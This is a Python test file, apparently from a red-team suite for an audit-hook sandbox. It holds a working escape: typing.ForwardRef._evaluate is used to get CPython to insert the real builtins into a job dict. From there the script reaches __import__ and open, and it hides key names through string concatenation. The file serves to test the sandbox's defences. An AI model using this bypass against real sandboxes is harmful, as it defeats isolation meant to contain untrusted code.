# eval()/exec() with a globals dict that has no "__builtins__" key insert one: the builtins of
# the frame that calls eval (PyEval_GetBuiltins), here typing.ForwardRef._evaluate's, i.e. the
# real builtins dict. The audit hook allows that eval (a plain type expression "int", in a dict
# that is no module's namespace) and judges only the code, not what CPython writes into the
# job's own dict: afterwards g["__builtins__"] is the real builtins, with the real __import__
# and open. (98 made the expression itself do the work; this needs only a harmless one.)
# Found by a fifth red-team review (strict policy).
# Prints the marker only if the forbidden operation succeeded. Run ONLY through `codeq run`.
NAME = "149_eval_inserts_real_builtins"


def won(evidence):
    print("BYPASS-OK:" + NAME, evidence, flush=True)


import typing

ref = typing.get_args(typing.List["int"])[0]
g = {}
ref._evaluate(g, {}, frozenset())  # allowed: "int" in a job dict
real_builtins = g["__buil" + "tins__"]
posix = real_builtins["__imp" + "ort__"]("posix")
won("posix.getpid()=%s real_open=%s" % (posix.getpid(), real_builtins["op" + "en"]))
